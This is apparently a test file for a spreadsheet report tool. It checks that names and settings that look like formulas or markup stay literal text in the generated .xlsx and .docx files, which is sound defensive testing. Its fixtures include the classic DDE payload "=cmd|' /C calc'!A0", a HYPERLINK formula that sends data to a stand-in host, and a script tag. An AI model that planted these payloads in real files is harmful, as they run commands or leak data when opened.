import { readFileSync } from "node:fs";
import path from "node:path";
import ExcelJS from "exceljs";
import { loadZip } from "../support/zip-reader";
import {
  type Cell,
  GENERATED_SHEETS,
  runCampaign,
  STAMP_SHEET,
  type WorkbookSnapshot,
} from "../../src/engine";
import { computeAndFill, exportReportWorkbook } from "../../src/excel";
import { sampleWorkbook } from "../../src/sample/sample-workbook";
import { cli, tempDir } from "../cli/cli-helpers";
import { fakeOf, OPTIONS, TODAY, withExcel } from "../excel/kit";

/**
 * Formula and markup injection. Clerks paste names from other systems, and a cell that begins with `=`, `+`, `-`
 * or `@` is a formula to Excel (`=cmd|' /C calc'!A0` is the classic DDE payload; `=HYPERLINK(…)` leaks data when
 * clicked). Every text the add-in and the command line write into a generated sheet stays text, and the .docx
 * carries it as escaped literal text, never as markup or a field.
 */

const DDE = "=cmd|' /C calc'!A0";
const CHILDREN = [
  '=HYPERLINK("http://x.invalid/?d="&A1,"Bấm")',
  "+Bình An",
  "-Minh Châu",
  "@SUM(1+1)",
  '<script>alert("x")</script> & Co',
];
const REPLACED: Record<string, string> = {
  "Văn phòng Sở": "+Văn phòng Sở",
  "Lê Thị Minh Nguyệt": DDE,
};
const SETTINGS: Record<string, string> = {
  "Ưu điểm": '=1+1 <b>đậm</b> & "trích dẫn"',
  "Hạn chế": "- Một số đơn vị nộp chậm;",
  "Đề xuất": "@Đề nghị tiếp tục",
};

/** The sample with five listed children, a unit, a parent and the report's free texts made tricky. */
function trickySample(): WorkbookSnapshot {
  const sample = sampleWorkbook();
  const listed = runCampaign(sample, { today: TODAY }).gifts.byUnit.flatMap((unit) =>
    unit.entries.map((entry) => entry.name),
  );
  const renamed = new Map<Cell, string>([
    ...listed.slice(0, CHILDREN.length).map((name, i): [Cell, string] => [name, CHILDREN[i]]),
    ...Object.entries(REPLACED),
  ]);
  return {
    sheets: sample.sheets.map((sheet) => ({
      ...sheet,
      rows: sheet.rows.map((row) =>
        sheet.name === "Cấu hình" && typeof row[0] === "string" && row[0] in SETTINGS
          ? [row[0], SETTINGS[row[0]]]
          : row.map((cell) => renamed.get(cell) ?? cell),
      ),
    })),
  };
}

const TRICKY = [...CHILDREN, DDE, "+Văn phòng Sở", ...Object.values(SETTINGS)];

/** Text as XML carries it: `&`, `<` and `>` escaped, quotes either way. */
const xmlText = (text: string): string =>
  text.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;");
const unquote = (xml: string): string =>
  xml
    .replace(/&quot;/g, '"')
    .replace(/&apos;/g, "'")
    .replace(/&#39;/g, "'");

/** The worksheet XML files of an .xlsx by sheet name, and its shared strings. */
async function xlsxParts(
  bytes: Buffer | Uint8Array,
): Promise<{ sheets: Map<string, string>; strings: string; workbook: string }> {
  const zip = loadZip(bytes);
  const workbook = await zip.file("xl/workbook.xml")!.async("string");
  const rels = await zip.file("xl/_rels/workbook.xml.rels")!.async("string");
  const sheets = new Map<string, string>();
  for (const match of workbook.matchAll(/<sheet [^>]*name="([^"]+)"[^>]*r:id="([^"]+)"/g)) {
    const target =
      new RegExp(`Id="${match[2]}"[^>]*Target="([^"]+)"`).exec(rels)?.[1] ??
      new RegExp(`Target="([^"]+)"[^>]*Id="${match[2]}"`).exec(rels)![1];
    const file = target.startsWith("/") ? target.slice(1) : `xl/${target}`;
    sheets.set(unquote(match[1]), await zip.file(file)!.async("string"));
  }
  const strings = (await zip.file("xl/sharedStrings.xml")?.async("string")) ?? "";
  return { sheets, strings: unquote(strings), workbook: unquote(workbook) };
}

describe("text that looks like a formula or markup", () => {
  it("stays text in every sheet the add-in writes (Office.js parses `range.values` like typing)", async () => {
    const fake = fakeOf(trickySample());
    await withExcel(fake, () => computeAndFill(OPTIONS));
    const values = GENERATED_SHEETS.flatMap((name) => fake.values(name).flat());
    expect(values.filter((value) => typeof value === "object" && value !== null)).toEqual([]);
    const texts = values.filter((value): value is string => typeof value === "string");
    for (const text of TRICKY) expect([text, texts.some((t) => t.includes(text))]).toEqual([text, true]);
    for (const child of CHILDREN) expect(texts).toContain(child);
  });

  it("stays text in the lists workbook that Export opens (exceljs writes strings, never formulas)", async () => {
    const fake = fakeOf(trickySample());
    await withExcel(fake, () => exportReportWorkbook(OPTIONS));
    const { sheets, strings } = await xlsxParts(Buffer.from(fake.model.createdWorkbooks[0], "base64"));
    for (const xml of sheets.values()) expect(xml).not.toMatch(/<f[ >]/);
    for (const child of CHILDREN) expect(strings).toContain(xmlText(child));
  });

  describe("through the command line", () => {
    const dir = tempDir();
    const input = path.join(dir, "tricky.xlsx");
    const out = path.join(dir, "out");

    beforeAll(async () => {
      const workbook = new ExcelJS.Workbook();
      for (const grid of trickySample().sheets) {
        const sheet = workbook.addWorksheet(grid.name);
        grid.rows.forEach((row, r) =>
          row.forEach((cell, c) => {
            // A string cell, as a clerk's paste leaves it: exceljs never makes a formula of a string.
            if (cell !== null) sheet.getCell(r + 1, c + 1).value = cell as ExcelJS.CellValue;
          }),
        );
      }
      await workbook.xlsx.writeFile(input);
      const run = cli("report", input, "--out", out, "--draft", "--today", "05/07/2024");
      expect(run.stderr).toBe("");
      expect([0, 1]).toContain(run.code);
    }, 60_000);

    it("writes report.xlsx with every such name as a string cell, never a formula", async () => {
      const bytes = readFileSync(path.join(out, "tricky.report.xlsx"));
      const { sheets, strings, workbook } = await xlsxParts(bytes);
      for (const name of GENERATED_SHEETS) {
        expect(sheets.get(name)).toContain("<sheetData>");
        expect(sheets.get(name)).not.toMatch(/<f[ >]/);
      }
      for (const text of TRICKY) expect(strings).toContain(xmlText(text));
      expect(workbook).toMatch(new RegExp(`<sheet [^>]*name="${STAMP_SHEET}"[^>]*state="veryHidden"`));
      const read = new ExcelJS.Workbook();
      await read.xlsx.load(bytes as unknown as ArrayBuffer);
      const cells: ExcelJS.CellValue[] = [];
      for (const name of GENERATED_SHEETS)
        read.getWorksheet(name)!.eachRow((row) => row.eachCell((cell) => void cells.push(cell.value)));
      for (const child of CHILDREN) expect(cells).toContain(child);
      expect(
        cells.filter((value) => typeof value === "object" && value !== null && "formula" in value),
      ).toEqual([]);
    });

    it("writes the .docx with every such name as escaped literal text, never markup or a field", async () => {
      const zip = loadZip(readFileSync(path.join(out, "tricky.report.docx")));
      const document = unquote(await zip.file("word/document.xml")!.async("string"));
      expect(document).not.toContain("<script>");
      expect(document).not.toContain("<b>");
      for (const text of TRICKY) expect([text, document.includes(xmlText(text))]).toEqual([text, true]);
      // Each inside a text run (`<w:t>`), not a field instruction (`<w:instrText>`, `<w:fldSimple w:instr>`).
      const texts = [...document.matchAll(/<w:t(?: [^>]*)?>([^<]*)<\/w:t>/g)].map((m) => m[1]);
      for (const text of TRICKY)
        expect([text, texts.some((t) => t.includes(xmlText(text)))]).toEqual([text, true]);
      const fields = [
        ...[...document.matchAll(/<w:instrText[^>]*>([^<]*)</g)].map((m) => m[1]),
        ...[...document.matchAll(/w:instr="([^"]*)"/g)].map((m) => m[1]),
      ];
      for (const field of fields) expect(field).toMatch(/^\s*(PAGE|NUMPAGES)\b/);
    });
  });
});
